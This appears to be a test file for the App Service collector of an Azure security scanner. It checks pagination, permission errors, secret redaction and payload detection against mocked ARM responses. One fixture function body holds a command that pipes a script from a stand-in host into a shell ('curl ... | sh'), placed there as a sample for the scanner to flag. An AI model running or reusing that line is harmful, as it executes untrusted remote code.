import nock from "nock";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { derivePayloads } from "../../src/azure/enrich/payloads.js";
import { LiveScope } from "../../src/azure/live/scope.js";
import { AppServiceCollector } from "../../src/collectors/app-service/index.js";
import { CoverageTally } from "../../src/collectors/tally.js";
import { Diagnostics } from "../../src/model/diagnostics.js";
import type { ArmResource, CollectedItem, FunctionApp } from "../../src/model/records.js";
import { runScan } from "../../src/scan/run.js";
import { REDACTED } from "../../src/util/redact.js";
import { armForbidden, exampleBody, readAll, ref, tempDir, testSession } from "../helpers.js";

const ARM = "https://management.example.test";
/** The subscription and resource group of the Microsoft.Web examples. */
const SUB = "34adfa4f-cedf-4dc0-ba29-b6d1a69ab345";
const RG = "testrg123";
const API = "2025-05-01";
const SITES = `/subscriptions/${SUB}/providers/Microsoft.Web/sites`;
const site = (name: string) => `/subscriptions/${SUB}/resourceGroups/${RG}/providers/Microsoft.Web/sites/${name}`;

type Json = Record<string, unknown>;
const listWebApps = exampleBody("ListWebApps.json") as { value: Json[] };
const siteConfig = exampleBody("GetSiteConfig.json") as Json;
const appSettings = exampleBody("ListAppSettings.json") as { properties: Record<string, string> };
const policies = exampleBody("ListPublishingCredentialsPolicies.json") as { value: Json[] };
const [site1, site2] = listWebApps.value as [Json, Json];

const session = () => testSession(ARM);
const forbidden = (action: string) => armForbidden(action, SUB);

/** GET sites: ListWebApps.json's first site on page 1, its second on page 2 (after nextLink). */
function sitesInTwoPages(n: nock.Scope): nock.Scope {
  return n
    .get(SITES)
    .query({ "api-version": API })
    .reply(200, { value: [site1], nextLink: `${ARM}${SITES}?api-version=${API}&$skipToken=2` })
    .get(SITES)
    .query({ "api-version": API, $skipToken: "2" })
    .reply(200, { value: [site2] });
}

/** ListPublishingCredentialsPolicies.json's two policies, re-homed under a site of this subscription. */
function policiesOf(name: string, allow = true): { value: Json[] } {
  return {
    value: policies.value.map((p) => ({
      ...p,
      id: `${site(name)}/basicPublishingCredentialsPolicies/${p.name}`,
      properties: { allow },
    })),
  };
}

/**
 * The children a site without any (no source control: ARM's 404; no deployments, no site
 * extensions) answers with, plus its policies. ListWebApps.json's sites are Windows web apps
 * ("app"), so functions are not asked for and site extensions are.
 */
function childrenOf(n: nock.Scope, name: string, allow = true): nock.Scope {
  return n
    .get(`${site(name)}/sourcecontrols/web`)
    .query({ "api-version": API })
    .reply(404, { error: { code: "ResourceNotFound", message: "not found" } })
    .get(`${site(name)}/basicPublishingCredentialsPolicies`)
    .query({ "api-version": API })
    .reply(200, policiesOf(name, allow))
    .get(`${site(name)}/deployments`)
    .query({ "api-version": API })
    .reply(200, { value: [] })
    .get(`${site(name)}/siteextensions`)
    .query({ "api-version": API })
    .reply(200, { value: [] });
}

function configFor(n: nock.Scope, name: string, children = true): nock.Scope {
  const c = n
    .get(`${site(name)}/config/web`)
    .query({ "api-version": API })
    .reply(200, { ...siteConfig, id: `${site(name)}/config/web` });
  return children ? childrenOf(c, name) : c;
}

async function collect(readAppSettings: boolean) {
  const s = session();
  const c = new AppServiceCollector(s, new LiveScope(s, { subscriptions: [SUB] }), { readAppSettings });
  const plan = await c.plan();
  const tally = new CoverageTally();
  const items: CollectedItem[] = [];
  for await (const b of c.collect(plan, { tally, diagnostics: new Diagnostics() })) items.push(...b);
  return {
    plan,
    coverage: tally.entries(),
    apps: items.filter((i): i is FunctionApp => i.kind === "functionApp"),
    children: items.filter((i): i is ArmResource => i.kind === "resource"),
    items,
  };
}

beforeAll(() => nock.disableNetConnect());
afterEach(() => nock.cleanAll());
afterAll(() => nock.enableNetConnect());

describe("live App Service collector", () => {
  it("yields ListWebApps.json's sites, following nextLink, with config/web merged in", async () => {
    const scope = configFor(configFor(sitesInTwoPages(nock(ARM)), "sitef6141"), "sitef7252");
    const { plan, coverage, apps } = await collect(false);
    expect(scope.isDone()).toBe(true);
    expect(plan.scopes).toEqual([SUB]);

    expect(apps.map((a) => [a.id, a.name, a.siteKind, a.isFunctionApp, a.resourceGroup, a.subscriptionId])).toEqual([
      [site1.id, "sitef6141", "app", false, RG, SUB],
      [site2.id, "sitef7252", "app", false, RG, SUB],
    ]);
    expect(apps.map((a) => [a.location, a.state])).toEqual([
      ["East US", "Running"],
      ["East US", "Running"],
    ]);
    // Without --read-app-settings no settings are asked for (nock would refuse the POST).
    expect(apps.every((a) => a.appSettings === undefined)).toBe(true);
    // Page 2's site is located at page 2's URL, without its query (skip token).
    expect(apps[1]?.origin.location).toBe(`${ARM}${SITES}`);
    // config/web's properties become the site's siteConfig (phpVersion is in both; ftpsState too).
    const raw = apps[0]?.raw as { properties: { siteConfig: Json } } | undefined;
    expect(raw).toBeDefined();
    const merged = raw?.properties.siteConfig;
    expect(merged).toMatchObject(siteConfig.properties as Json);

    expect(coverage).toHaveLength(1);
    expect(coverage[0]).toMatchObject({ source: "app-service", scope: `subscription ${SUB}`, status: "complete" });
    // Two sites and their two publishing policies each; no source control (404) is not a failure.
    expect(coverage[0]?.records).toBe(6);
    expect(coverage[0]?.reason).toContain("app settings not read (pass --read-app-settings");
  });

  it("settings and connection strings inside siteConfig are cut too, whatever body carries them", async () => {
    // SiteConfig's appSettings (NameValuePair[]) and connectionStrings (ConnStringInfo[]) as the
    // REST spec defines them (WebApps.json); ARM leaves them null, a proxy or a future version need not.
    const secret = "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0;";
    const pkg = "https://a.blob.core.windows.net/p/app.zip?sv=2022-11-02&sig=c2lnbmF0dXJl";
    const scope = childrenOf(childrenOf(sitesInTwoPages(nock(ARM)), "sitef6141"), "sitef7252");
    for (const name of ["sitef6141", "sitef7252"])
      scope
        .get(`${site(name)}/config/web`)
        .query({ "api-version": API })
        .reply(200, {
          ...siteConfig,
          id: `${site(name)}/config/web`,
          properties: {
            ...(siteConfig.properties as Json),
            appSettings: [
              { name: "AzureWebJobsStorage", value: secret },
              { name: "WEBSITE_RUN_FROM_PACKAGE", value: pkg },
            ],
            connectionStrings: [{ name: "db", connectionString: "Server=x;Password=hunter2;", type: "SQLAzure" }],
          },
        });
    const { apps, items } = await collect(false);
    expect(scope.isDone()).toBe(true);
    const text = JSON.stringify(items);
    expect(text).not.toContain("c2VjcmV0c2VjcmV0");
    expect(text).not.toContain("hunter2");
    expect(text).not.toContain("c2lnbmF0dXJl");
    // What rules read is kept: the package URL without its signature.
    expect(apps[0]?.appSettings?.WEBSITE_RUN_FROM_PACKAGE).toContain("https://a.blob.core.windows.net/p/app.zip");
    expect(apps[0]?.appSettings?.AzureWebJobsStorage).toBe(REDACTED);
  });

  it("with readAppSettings, POSTs appsettings/list and keeps names but never the secret values", async () => {
    const scope = configFor(configFor(sitesInTwoPages(nock(ARM)), "sitef6141"), "sitef7252");
    for (const name of ["sitef6141", "sitef7252"])
      scope
        .post(`${site(name)}/config/appsettings/list`)
        .query({ "api-version": API })
        .reply(200, { ...appSettings, id: `${site(name)}/config/appsettings` });

    const { coverage, apps, items } = await collect(true);
    expect(scope.isDone()).toBe(true);
    expect(apps).toHaveLength(2);
    const names = Object.keys(appSettings.properties);
    expect(names).toEqual(["Setting1", "Setting2"]);
    for (const a of apps) expect(a.appSettings).toEqual({ Setting1: REDACTED, Setting2: REDACTED });

    // No value of ListAppSettings.json (neither setting is configuration) is anywhere in the output.
    const out = JSON.stringify(items);
    for (const v of Object.values(appSettings.properties)) expect(out).not.toContain(v);
    expect(coverage[0]?.status).toBe("complete");
    expect(coverage[0]?.records).toBe(6);
  });

  it("a 403 AuthorizationFailed on appsettings/list leaves the scope partial, naming the role", async () => {
    const scope = configFor(configFor(sitesInTwoPages(nock(ARM)), "sitef6141"), "sitef7252");
    for (const name of ["sitef6141", "sitef7252"])
      scope
        .post(`${site(name)}/config/appsettings/list`)
        .query({ "api-version": API })
        .reply(403, forbidden("Microsoft.Web/sites/config/list/action"));

    const { coverage, apps } = await collect(true);
    expect(scope.isDone()).toBe(true);
    // The sites are still read; only their settings are missing.
    expect(apps.map((a) => a.name)).toEqual(["sitef6141", "sitef7252"]);
    expect(apps.every((a) => a.appSettings === undefined)).toBe(true);
    expect(coverage[0]?.status).toBe("partial");
    expect(coverage[0]?.reason).toContain("not authorised to read app settings");
    expect(coverage[0]?.reason).toContain("(AuthorizationFailed)");
    expect(coverage[0]?.reason).toContain("Microsoft.Web/sites/config/list/action");
  });

  /*
   * No azure-rest-api-specs example exists for WebApps_ListFunctions, WebApps_GetSourceControl,
   * WebApps_ListDeployments or WebApps_ListSiteExtensions (none in Microsoft.Web 2024-04-01 or
   * 2025-05-01, and so no generated SDK sample; test/fixtures/reference/SOURCES.md). These bodies
   * follow the models field for field: FunctionEnvelope, SiteSourceControl, Deployment and
   * SiteExtensionInfo (specification/web/resource-manager/Microsoft.Web/AppService/*.tsp and
   * models.tsp, as @azure/arm-appservice 19.0.0 deserialises them: snake_case wire names such as
   * script_href, invoke_url_template, start_time, extension_url kept as the REST API sends them).
   */
  const FUNC = "func-orders";
  const funcSite: Json = { ...site1, id: site(FUNC), name: FUNC, kind: "functionapp,linux" };
  const fn = {
    id: `${site(FUNC)}/functions/HttpTrigger1`,
    name: `${FUNC}/HttpTrigger1`,
    type: "Microsoft.Web/sites/functions",
    properties: {
      function_app_id: site(FUNC),
      script_root_path_href: `https://${FUNC}.azurewebsites.net/admin/vfs/home/site/wwwroot/HttpTrigger1/`,
      script_href: `https://${FUNC}.azurewebsites.net/admin/vfs/home/site/wwwroot/HttpTrigger1/__init__.py`,
      config_href: `https://${FUNC}.azurewebsites.net/admin/vfs/home/site/wwwroot/HttpTrigger1/function.json`,
      test_data_href: `https://${FUNC}.azurewebsites.net/admin/vfs/tmp/FunctionsData/HttpTrigger1.dat`,
      secrets_file_href: null,
      href: `https://${FUNC}.azurewebsites.net/admin/functions/HttpTrigger1`,
      config: {
        bindings: [
          { authLevel: "anonymous", type: "httpTrigger", direction: "in", name: "req", methods: ["get", "post"] },
          { type: "http", direction: "out", name: "$return" },
        ],
      },
      files: {
        "__init__.py":
          'import os\ndef main(req):\n    os.system("curl -s https://cdn-updates.example.net/a.sh | sh")\n',
      },
      test_data: '{"password":"hunter2"}',
      invoke_url_template: `https://${FUNC}.azurewebsites.net/api/httptrigger1`,
      language: "python",
      isDisabled: false,
    },
  };
  const sourceControl = {
    id: `${site(FUNC)}/sourcecontrols/web`,
    name: FUNC,
    type: "Microsoft.Web/sites/sourcecontrols",
    properties: {
      repoUrl: "https://ghp_c2VjcmV0dG9rZW5zZWNyZXR0b2tlbg@github.com/example-org/sync-agent",
      branch: "main",
      isManualIntegration: true,
      isGitHubAction: false,
      deploymentRollbackEnabled: false,
      isMercurial: false,
      gitHubActionConfiguration: {
        containerConfiguration: {
          serverUrl: "https://registry.example.net",
          imageName: "agent",
          username: "bot",
          password: "cmVnaXN0cnlwYXNzd29yZA",
        },
        isLinux: true,
        generateWorkflowFile: false,
      },
    },
  };
  const deployment = {
    id: `${site(FUNC)}/deployments/a1b2c3`,
    name: `${FUNC}/a1b2c3`,
    type: "Microsoft.Web/sites/deployments",
    properties: {
      status: 4,
      message: "Created via a push deployment",
      author: "N/A",
      deployer: "ZipDeploy",
      author_email: "N/A",
      start_time: "2026-11-19T02:40:00.0000000Z",
      end_time: "2026-11-19T02:40:30.0000000Z",
      active: true,
      details: `https://${FUNC}.scm.azurewebsites.net/api/deployments/a1b2c3/log`,
    },
  };

  function functionAppScope(n: nock.Scope, opts: { deployments?: number } = {}): nock.Scope {
    return n
      .get(SITES)
      .query({ "api-version": API })
      .reply(200, { value: [funcSite] })
      .get(`${site(FUNC)}/config/web`)
      .query({ "api-version": API })
      .reply(200, { ...siteConfig, id: `${site(FUNC)}/config/web` })
      .get(`${site(FUNC)}/functions`)
      .query({ "api-version": API })
      .reply(200, { value: [fn] })
      .get(`${site(FUNC)}/sourcecontrols/web`)
      .query({ "api-version": API })
      .reply(200, sourceControl)
      .get(`${site(FUNC)}/basicPublishingCredentialsPolicies`)
      .query({ "api-version": API })
      .reply(200, policiesOf(FUNC))
      .get(`${site(FUNC)}/deployments`)
      .query({ "api-version": API })
      .reply(
        opts.deployments ?? 200,
        opts.deployments ? forbidden("Microsoft.Web/sites/deployments/read") : { value: [deployment] },
      );
  }

  it("reads a Function App's functions, source control, publishing policies and deployments as ARM resources", async () => {
    // A Linux Function App: functions are listed, site extensions (Windows only) are not asked for.
    const scope = functionAppScope(nock(ARM));
    const { coverage, apps, children, items } = await collect(false);
    expect(scope.isDone()).toBe(true);
    expect(apps.map((a) => [a.name, a.isFunctionApp])).toEqual([[FUNC, true]]);
    expect(children.map((c) => [c.type, c.id])).toEqual([
      ["Microsoft.Web/sites/functions", fn.id],
      ["Microsoft.Web/sites/sourcecontrols", sourceControl.id],
      [
        "Microsoft.Web/sites/basicPublishingCredentialsPolicies",
        `${site(FUNC)}/basicPublishingCredentialsPolicies/ftp`,
      ],
      [
        "Microsoft.Web/sites/basicPublishingCredentialsPolicies",
        `${site(FUNC)}/basicPublishingCredentialsPolicies/scm`,
      ],
      ["Microsoft.Web/sites/deployments", deployment.id],
    ]);
    expect(children.every((c) => c.subscriptionId === SUB && c.resourceGroup === RG)).toBe(true);
    expect(children[0]?.origin.location).toBe(`${ARM}${site(FUNC)}/functions`);
    const props = (type: string) => children.find((c) => c.type === type)?.properties as Json;
    expect(props("Microsoft.Web/sites/deployments")).toMatchObject({ deployer: "ZipDeploy", active: true });
    expect(props("Microsoft.Web/sites/basicPublishingCredentialsPolicies")).toEqual({ allow: true });
    expect(props("Microsoft.Web/sites/sourcecontrols")).toMatchObject({
      branch: "main",
      isManualIntegration: true,
      repoUrl: `https://${REDACTED}@github.com/example-org/sync-agent`,
    });
    // Secrets a child body can hold are gone before anything is kept.
    const text = JSON.stringify(items);
    expect(text).not.toContain("c2VjcmV0dG9rZW5zZWNyZXR0b2tlbg");
    expect(text).not.toContain("cmVnaXN0cnlwYXNzd29yZA");
    expect(text).not.toContain("hunter2");
    expect(coverage[0]).toMatchObject({ status: "complete", records: 6 });

    // The repository and the function's file come out as payloads, vector technique T1648.
    const payloads = children.flatMap((c) => derivePayloads(c));
    expect(payloads.map((p) => [p.resourceType, p.payloadKind, p.path, p.vectorTechniques])).toEqual([
      ["Microsoft.Web/sites/functions", "script", "properties.files.__init__.py", ["T1648"]],
      ["Microsoft.Web/sites/sourcecontrols", "url", "properties.repoUrl", ["T1648"]],
    ]);
    expect(payloads[1]?.content).toBe(`https://${REDACTED}@github.com/example-org/sync-agent`);
  });

  it("a 403 on one kind of child read leaves the scope partial with one reason naming the role", async () => {
    const scope = nock(ARM);
    configFor(sitesInTwoPages(scope), "sitef6141", false);
    configFor(scope, "sitef7252", false);
    for (const name of ["sitef6141", "sitef7252"])
      scope
        .get(`${site(name)}/sourcecontrols/web`)
        .query({ "api-version": API })
        .reply(404, { error: { code: "ResourceNotFound", message: "not found" } })
        .get(`${site(name)}/basicPublishingCredentialsPolicies`)
        .query({ "api-version": API })
        .reply(200, policiesOf(name, false))
        .get(`${site(name)}/deployments`)
        .query({ "api-version": API })
        .reply(403, forbidden("Microsoft.Web/sites/deployments/read"))
        .get(`${site(name)}/siteextensions`)
        .query({ "api-version": API })
        .reply(200, { value: [] });
    const { coverage, apps, children } = await collect(false);
    expect(scope.isDone()).toBe(true);
    expect(apps.map((a) => a.name)).toEqual(["sitef6141", "sitef7252"]);
    expect(children).toHaveLength(4);
    expect(coverage[0]?.status).toBe("partial");
    const reason = coverage[0]?.reason ?? "";
    expect(reason).toContain(
      `not authorised to read site deployments of subscription ${SUB} (AuthorizationFailed): grant the scanning identity Reader (Microsoft.Web/sites/deployments/read)`,
    );
    // One sentence for the kind of read, counting the sites, not one per site.
    expect(reason).toContain("(2 sites)");
    expect(reason.match(/site deployments/g)).toHaveLength(1);
    // The 404 on source control is "none", not a failure.
    expect(reason).not.toContain("source control");
  });

  it("a 404 on listFunctions is no functions; a 403 on it names the functions role", async () => {
    const n = nock(ARM)
      .get(SITES)
      .query({ "api-version": API })
      .reply(200, { value: [funcSite, { ...funcSite, id: site("func-b"), name: "func-b" }] });
    for (const [name, status] of [
      [FUNC, 404],
      ["func-b", 403],
    ] as const)
      n.get(`${site(name)}/config/web`)
        .query({ "api-version": API })
        .reply(200, { ...siteConfig, id: `${site(name)}/config/web` })
        .get(`${site(name)}/functions`)
        .query({ "api-version": API })
        .reply(
          status,
          status === 403
            ? forbidden("Microsoft.Web/sites/functions/read")
            : { error: { code: "NotFound", message: "x" } },
        )
        .get(`${site(name)}/sourcecontrols/web`)
        .query({ "api-version": API })
        .reply(404, { error: { code: "ResourceNotFound", message: "not found" } })
        .get(`${site(name)}/basicPublishingCredentialsPolicies`)
        .query({ "api-version": API })
        .reply(200, { value: [] })
        .get(`${site(name)}/deployments`)
        .query({ "api-version": API })
        .reply(200, { value: [] });
    const { coverage, children } = await collect(false);
    expect(n.isDone()).toBe(true);
    expect(children).toEqual([]);
    expect(coverage[0]?.status).toBe("partial");
    expect(coverage[0]?.reason).toContain("not authorised to read Function App functions of subscription");
    expect(coverage[0]?.reason).toContain("Microsoft.Web/sites/functions/read");
    expect(coverage[0]?.reason).not.toContain("(2 sites)");
  });

  it("the same bodies exported to files (az rest) are read as the same resource records", async () => {
    const t = tempDir();
    try {
      // A list file, as `az rest` prints ListPublishingCredentialsPolicies.json's body, and the
      // single-policy GET (GetPublishingCredentialsPolicy.json), whose body has no `type`.
      const list = t.write("functionApps/app.basicPublishingCredentialsPolicies.json", JSON.stringify(policies));
      const single = t.write(
        "functionApps/app.scm.json",
        JSON.stringify(
          (ref("GetPublishingCredentialsPolicy.json") as { responses: { 200: { body: Json } } }).responses[200].body,
        ),
      );
      const fromList = await readAll([list]);
      expect(fromList.records.map((r) => [r.kind, (r as ArmResource).type, (r as ArmResource).properties])).toEqual([
        ["resource", "Microsoft.Web/sites/basicPublishingCredentialsPolicies", { allow: true }],
        ["resource", "Microsoft.Web/sites/basicPublishingCredentialsPolicies", { allow: true }],
      ]);
      const fromSingle = await readAll([single]);
      expect(fromSingle.records).toEqual([]);
      expect(fromSingle.coverage[0]?.status).toBe("partial");
      expect(fromSingle.coverage[0]?.reason).toContain("unknown record shape");
    } finally {
      t.cleanup();
    }
  });

  it("a 403 AuthorizationFailed on the site list fails the scope; runScan says incomplete", async () => {
    const scope = nock(ARM).get(SITES).query({ "api-version": API }).reply(403, forbidden("Microsoft.Web/sites/read"));

    const s = session();
    const { result } = await runScan({
      collectors: [new AppServiceCollector(s, new LiveScope(s, { subscriptions: [SUB] }), { readAppSettings: true })],
      loaded: { rules: [], correlations: [], errors: [] } as unknown as Parameters<typeof runScan>[0]["loaded"],
      now: () => new Date("2026-01-01T00:00:00Z"),
    });
    expect(scope.isDone()).toBe(true);
    expect(result.complete).toBe(false);
    expect(result.coverage).toHaveLength(1);
    expect(result.coverage[0]?.status).toBe("failed");
    expect(result.coverage[0]?.records).toBe(0);
    expect(result.coverage[0]?.reason).toContain(
      `not authorised to read App Service sites of subscription ${SUB} (AuthorizationFailed): grant the scanning identity Reader (Microsoft.Web/sites/read)`,
    );
    // A list that was refused says nothing about how many sites there are.
    expect(result.coverage[0]?.reason).not.toContain("no App Service sites");
  });
});
